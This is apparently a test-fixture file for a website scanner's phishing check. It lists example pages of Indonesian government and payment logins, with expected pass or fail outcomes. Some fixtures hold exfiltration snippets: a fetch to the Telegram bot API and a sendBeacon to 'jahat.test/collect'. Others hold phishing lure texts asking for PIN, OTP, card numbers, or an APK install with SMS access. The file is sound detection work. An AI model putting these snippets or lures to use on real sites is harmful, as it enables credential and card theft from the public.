"""The examples of the check of phishing, and what they are made of."""

from __future__ import annotations

from typing import Final

from msgspec.structs import replace

from cyberscan.checks._content.compromise import PAGE, linked, material, matter
from cyberscan.model.check import Example
from cyberscan.model.facts.content import (
    Code,
    Linked,
    Matter,
    OwnScript,
    Passage,
    Pointer,
    Visits,
)
from cyberscan.model.look import Absent, Failed, Negative, Reason
from cyberscan.model.verdict import Outcome

_NONE: Final = Absent(Negative.NO_DATA)


def _form(url: str, host: str) -> Pointer:
    """Make a form that posts there."""
    return Pointer("form", url, host, "body > form", f'<form method="post" action="{url}">')


def _asking(of: Pointer, says: str) -> Pointer:
    """Make a form without a field for a password, that says what it asks for."""
    return replace(of, kind="inquiry", says=says)


def _login(title: str, form: Pointer, *codes: Code, heading: str = "Masuk") -> Matter:
    """Make the page of a login."""
    return matter(
        Passage("heading", heading, "h1"),
        title=title,
        opening=f"{heading} User ID Kata sandi",
        characters=200,
        pictures=1,
        links=3,
        pointers=(form,),
        codes=codes,
    )


def _example(
    name: str,
    outcome: Outcome,
    message: str,
    front: Matter,
    beside: Linked | Absent | Failed = _NONE,
    seen: Visits | Absent = _NONE,
) -> Example:
    """Make an example, of a front page."""
    return Example(
        name=name,
        given={"material": material(front), "linked": beside, "visits": seen},
        outcome=outcome,
        message=message,
    )


_OWN: Final = "www.contoh.go.test"
_HERE: Final = _form(f"{PAGE}login", _OWN)
_AWAY: Final = _form("https://jahat.test/proses.php", "jahat.test")
_DEEP: Final = _form(f"{PAGE}uploads/o/p.php", _OWN)
_BACK: Final = _form(f"https://jahat.test/f?back=https://{_OWN}/", "jahat.test")
_CARD: Final = replace(
    _form("https://app.midtrans.com/pay", "app.midtrans.com"), says="Nomor kartu CVV"
)
_HOOK: Final = Code(
    selector="body > script",
    traits=("fields", "hook", "secrets", "sends"),
    length=300,
    snippet='fetch("https://api.telegram.org/bot[token]/sendMessage"',
    hosts=("api.telegram.org",),
)

_AID: Final = matter(
    title="Cek Penerima",
    opening="Bantuan Rp2.000.000 siap dicairkan. Kuota hari ini tersisa 118 orang.",
    characters=100,
    links=0,
    pointers=(
        replace(
            _form(f"{PAGE}cek-penerima/simpan.php", _OWN),
            kind="inquiry",
            fields=("nama", "nik", "telp | Nomor Telegram"),
        ),
    ),
)
_BEACON: Final = Code(
    selector="body > script",
    traits=("beacon", "fields", "secrets", "sends"),
    length=300,
    snippet="navigator.sendBeacon('https://jahat.test/collect',q.join('|'))",
    hosts=("jahat.test",),
)

_TAKEN: Final = Visits(
    visits=(),
    scripts=(
        OwnScript(
            exchange=material(matter(), f"{PAGE}a.js").exchange, matter=matter(codes=(_HOOK,))
        ),
    ),
)

EXAMPLES: Final = (
    _example("no login", Outcome.PASS, "clean", matter()),
    _example(
        "the office's own login",
        Outcome.PASS,
        "clean",
        _login("SIMPEG Kabupaten Contoh", _HERE),
    ),
    _example(
        "a payment page that names a bank",
        Outcome.PASS,
        "clean",
        _login("Bayar PBB lewat Bank Jatim", _HERE, heading="Virtual Account Bank Jatim"),
    ),
    _example("linked pages unseen", Outcome.UNKNOWN, "front", matter(), Failed(Reason.TIMEOUT)),
    _example(
        "a bank's login that posts abroad",
        Outcome.FAIL,
        "foreign",
        _login("KlikBCA Individual", _AWAY),
    ),
    _example(
        "a wallet that posts into a chat",
        Outcome.FAIL,
        "hook",
        _login("DANA Kaget - Klaim", _HERE, _HOOK),
    ),
    _example(
        "a mailbox in the folder of uploads",
        Outcome.FAIL,
        "folder",
        matter(),
        linked(("uploads/o/index.php", _login("Outlook", _form(f"{PAGE}uploads/o/p.php", _OWN)))),
    ),
    _example(
        "the office's own Outlook",
        Outcome.PASS,
        "clean",
        _login("Outlook", _form(f"{PAGE}owa/auth.owa", _OWN)),
    ),
    _example(
        "a false grant that asks for PIN and OTP",
        Outcome.FAIL,
        "lure",
        replace(
            _login("Dinas Sosial Contoh", _AWAY),
            opening="Klaim bantuan: NIK, nomor dompet digital, PIN, kode OTP.",
        ),
    ),
    _example(
        "the office's own login, whose button leads elsewhere",
        Outcome.FAIL,
        "diverted",
        _login("Login Pegawai", replace(_AWAY, marks=("diverted",))),
    ),
    _example(
        "a card that a firm takes for the office, beside its own login",
        Outcome.PASS,
        "clean",
        replace(
            _login("e-PBB Contoh", _CARD),
            opening="NIK, kata sandi, kode OTP. Nomor kartu, CVV.",
        ),
    ),
    _example(
        "a full mailbox that ends today",
        Outcome.FAIL,
        "lure",
        replace(
            _login("Surel Pemkab Contoh", _AWAY),
            opening="Kuota kotak surat penuh, akun ditutup dalam 24 jam.",
        ),
    ),
    _example(
        "a login rented from another firm that the page does not name",
        Outcome.FAIL,
        "outside",
        replace(
            _login("Login Pegawai Kabupaten Contoh", _AWAY),
            opening="Masuk dengan NIP dan kata sandi, atau kode OTP.",
        ),
    ),
    _example(
        "a login rented from a firm that the page names",
        Outcome.PASS,
        "clean",
        _login("Login Pegawai Kabupaten Contoh", replace(_AWAY, beside=("named",))),
    ),
    _example(
        "a parcel that waits for a fee by card",
        Outcome.FAIL,
        "posed",
        _login(
            "Suivi de votre envoi",
            _asking(_HERE, "Numéro de carte, Cryptogramme"),
            heading="Votre colis est en attente",
        ),
    ),
    _example(
        "a login whose script writes into a chat",
        Outcome.FAIL,
        "chat",
        _login("Login Pegawai Kabupaten Contoh", _HERE, _HOOK),
    ),
    _example(
        "a card that a script copies to a stranger",
        Outcome.FAIL,
        "skimmed",
        _login("Bayar rekening air", replace(_HERE, fields=("Nomor kartu", "CVV")), _BEACON),
    ),
    _example(
        "one whose script, a file of the site's own, does",
        Outcome.FAIL,
        "chat",
        _login("Login Pegawai Kabupaten Contoh", _HERE),
        seen=_TAKEN,
    ),
    _example(
        "a password for a service that keeps what forms send",
        Outcome.FAIL,
        "relay",
        _login("Login Pegawai", _form("https://formspree.io/f/abc", "formspree.io")),
    ),
    _example(
        "a login that passes through another site and comes back",
        Outcome.FAIL,
        "diverted",
        _login("Login Pegawai", _BACK),
    ),
    _example(
        "an application that wants to read messages",
        Outcome.FAIL,
        "install",
        replace(matter(), pleas=("Unduh aplikasi.apk, matikan Play Protect, lalu beri izin SMS.",)),
    ),
    _example(
        "advice against such an application",
        Outcome.PASS,
        "clean",
        replace(
            matter(),
            pleas=("Jangan unduh aplikasi.apk, matikan Play Protect, atau beri izin SMS.",),
        ),
    ),
    _example(
        "a prize for the code of a messenger",
        Outcome.FAIL,
        "code",
        replace(
            matter(Passage("link", "sini", "a", "", "https://jahat.test/v", "jahat.test")),
            pleas=("Nomor WhatsApp Anda terpilih sebagai penerima hadiah. Masukkan kode 6 digit.",),
        ),
    ),
    _example(
        "aid that is ready for whoever gives number and Telegram account",
        Outcome.FAIL,
        "begun",
        matter(),
        linked(("cek-penerima/", _AID)),
    ),
    _example(
        "a warning that shows a false login",
        Outcome.PASS,
        "clean",
        _login("Contoh penipuan: DANA Kaget", _HERE),
    ),
    _example(
        "a login under a bank's name",
        Outcome.FAIL,
        "brand",
        _login("Bank Jatim", _HERE),
    ),
)
